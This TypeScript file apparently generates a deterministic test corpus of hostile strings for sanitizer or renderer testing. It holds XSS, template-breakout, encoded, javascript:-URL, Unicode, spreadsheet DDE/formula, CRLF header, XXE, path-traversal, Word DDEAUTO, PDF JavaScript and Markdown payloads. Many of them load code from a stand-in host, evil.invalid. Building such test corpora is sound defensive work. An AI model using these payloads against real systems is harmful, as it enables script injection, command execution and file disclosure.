/** Where hostile strings try to reach; no such host can be. */
export const EVIL = 'evil.invalid';

/** What a string tries to call with its own number; nothing may ever call it. */
export const MARKER = 'ran';

type Family = (run: string, n: number) => readonly string[];

/** Markup that runs by itself, loads something, or takes the page over. */
const markup: Family = (run, n) => [
  `<script>${run}</script>`,
  `<ScRiPt >${run}</sCrIpT>`,
  `<script src=//${EVIL}/${n}></script>`,
  `<script type=module>import('//${EVIL}/${n}')</script>`,
  `<img src=x onerror=${run}>`,
  `<img/src=x/onerror=${run}//`,
  `<img src="//${EVIL}/pixel/${n}">`,
  `<img srcset="//${EVIL}/set/${n} 1x">`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><image href="//${EVIL}/${n}"/></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${run}'/>#x"/></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>点</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  `<math href="javascript:${run}">点</math>`,
  `<body onload=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<video poster=//${EVIL}/${n} autoplay></video>`,
  `<audio src=x onerror=${run}>`,
  `<details open ontoggle=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}></select>`,
  `<textarea autofocus onfocus=${run}></textarea>`,
  `<marquee onstart=${run}>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe src="javascript:parent.${run}"></iframe>`,
  `<iframe src=//${EVIL}/${n}></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src=//${EVIL}/${n}>`,
  `<link rel=stylesheet href=//${EVIL}/${n}>`,
  `<link rel=prefetch href=//${EVIL}/${n}>`,
  `<style>@import '//${EVIL}/${n}';</style>`,
  `<style>*{background:url(//${EVIL}/${n})}</style>`,
  `<meta http-equiv=refresh content="0;url=//${EVIL}/${n}">`,
  `<base href=//${EVIL}/>`,
  `<form action=//${EVIL}/${n}><button autofocus>提交</button></form>`,
  `<a href="javascript:${run}">点我</a>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<template><img src=x onerror=${run}></template>`,
  `<xss onpointerover=${run} style=position:fixed;inset:0>盖住</xss>`,
  `<div style="animation:x" onanimationstart=${run}></div>`,
];

/** Ways out of what a text may stand in. */
const WAYS_OUT = ['', '">', "'>", '--></title></textarea></style></script>', ']]>', '\u0000</p>'];

/** Of an attribute, a script, a template, a style. */
const breakouts: Family = (run, n) => [
  `" onmouseover="${run}" x="`,
  `' onfocus='${run}' autofocus x='`,
  `\` onclick=${run} \``,
  `x onload=${run}`,
  `";${run};//`,
  `';${run};//`,
  `\`;\${${run}}\``,
  `\\";${run};//`,
  `</script><script>${run}</script>`,
  `\u2028${run}\u2029`,
  `{"__proto__":{"x":"${run}"}}`,
  `__proto__`,
  `constructor`,
  `{{constructor.constructor('${run}')()}}`,
  `{{${run}}}`,
  `\${${run}}`,
  `<%= ${run} %>`,
  `#{${run}}`,
  `{@html '<img src=x onerror=${run}>'}`,
  `{${run}}`,
  `[[${run}]]`,
  `x;background:url(//${EVIL}/${n})`,
  `expression(${run})`,
  `</style><img src=x onerror=${run}>`,
  `--x:url(//${EVIL}/${n});`,
  `red;}*{background-image:url(//${EVIL}/${n})}`,
];

/** The same tag as somebody else decodes it. */
const encoded: Family = (run) => {
  const tag = `<img src=x onerror=${run}>`;
  const each = (show: (code: number) => string): string => [...tag].map((sign) => show(sign.codePointAt(0)!)).join('');
  return [
    tag.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
    each((code) => `&#${code};`),
    each((code) => `&#x${code.toString(16)}`),
    encodeURIComponent(tag),
    encodeURIComponent(encodeURIComponent(tag)),
    each((code) => `\\u${code.toString(16).padStart(4, '0')}`),
    each((code) => `\\x${code.toString(16)}`),
    tag.replaceAll('<', '\\74 '),
    tag.replaceAll('<', '＜').replaceAll('>', '＞'),
    tag.replaceAll('<', '\ufe64').replaceAll('>', '\ufe65'),
    `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
    `&lt;/p&gt;&amp;lt;script&amp;gt;${run}`,
    btoa(tag),
  ];
};

const addresses: Family = (run, n) => [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` javascript:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  `\u0001javascript:${run}`,
  `javascript&colon;${run}`,
  `javascript://${EVIL}/%0a${run}`,
  `vbscript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:image/svg+xml,<svg onload=${run}>`,
  `//${EVIL}/${n}`,
  `http://user@${EVIL}/${n}`,
  `file:///etc/passwd?${n}`,
  `view-source:javascript:${run}`,
];

/** Signs that hide, turn or end a text. */
const signs: Family = (run) => [
  `\u202e)1(nar=rorreno x=crs gmi<\u202c`,
  `\u2066\u2067${run}\u2069\u2069`,
  `<img src=x\u200b onerror=${run}>`,
  `<im\u0000g src=x onerror=${run}>`,
  `\u0000\u0001\u0002\u0007\u0008\u000b\u000c\u001b[31m${run}`,
  `\ufeff<script>${run}</script>`,
  `\ud83d<script>${run}</script>`,
  `\u0300\u0301\u0302\u0336${'\u0489'.repeat(60)}${run}`,
  `\u3000＝${run}`,
  `\ufffe\uffff${run}`,
];

/** For spreadsheets. */
const formulas: Family = (run, n) => [
  `=cmd|' /C calc'!A0`,
  `=HYPERLINK("http://${EVIL}/${n}","${run}")`,
  `=WEBSERVICE("http://${EVIL}/${n}")`,
  `=IMPORTXML("http://${EVIL}/${n}","//a")`,
  `=IMAGE("http://${EVIL}/${n}")`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `\t=1+1`,
  `\r=1+1`,
  ` =1+1`,
  `＝1+1`,
  `＋1`,
  `－1`,
  `＠SUM(A1)`,
  `"=1+1"`,
  `a,=1+1`,
  `"\n=1+1`,
  `DDE("cmd";"/C calc";"x")`,
];

/** For headers, mail, feeds, Word, PDF and Markdown. */
const carriers: Family = (run, n) => [
  `x\r\nSet-Cookie: ran=${n}`,
  `x\r\nContent-Type: text/html\r\n\r\n<script>${run}</script>`,
  `x\nBcc: all@${EVIL}`,
  `x%0d%0aLocation:%20http://${EVIL}/${n}`,
  `filename="x.html"; x="${n}`,
  `../../../../etc/passwd\u0000.csv`,
  `]]></description><script>${run}</script><![CDATA[`,
  `<!DOCTYPE x [<!ENTITY e SYSTEM "http://${EVIL}/${n}">]>&e;`,
  `<?xml-stylesheet href="http://${EVIL}/${n}"?>`,
  `</w:t></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:t>`,
  `<w:fldSimple w:instr="INCLUDEPICTURE http://${EVIL}/${n}"/>`,
  `</t></is></c><c t="str"><f>WEBSERVICE("http://${EVIL}/${n}")</f></c>`,
  `_x003c_script_x003e_${run}`,
  `) Tj ET /OpenAction << /S /JavaScript /JS (app.alert(${n})) >>`,
  `/URI (http://${EVIL}/${n})`,
  `\\u003c/script\\u003e`,
  `[点我](javascript:${run})`,
  `![图](http://${EVIL}/${n})`,
  `[点我]: http://${EVIL}/${n}`,
  `<http://${EVIL}/${n}>`,
  `\`\`\`\n<script>${run}</script>\n\`\`\``,
  `> **${run}** | \\| ~~x~~`,
];

/**
 * Texts that were written to run, load or pretend something wherever they are shown. Each tries to call `ran(n)` with its own number, or to
 * reach EVIL under it. Made by rules, the same on every run; invented, none is a post.
 */
export function hostileStrings(): readonly string[] {
  const all: string[] = [];
  const run = (): string => `${MARKER}(${all.length})`;
  for (const way of WAYS_OUT)
    for (let at = 0; at < markup('', 0).length; at++) all.push(`${way}${markup(run(), all.length)[at]!}`);
  for (const family of [breakouts, encoded, addresses, signs, formulas, carriers])
    for (let at = 0; at < family('', 0).length; at++) all.push(family(run(), all.length)[at]!);
  return all;
}
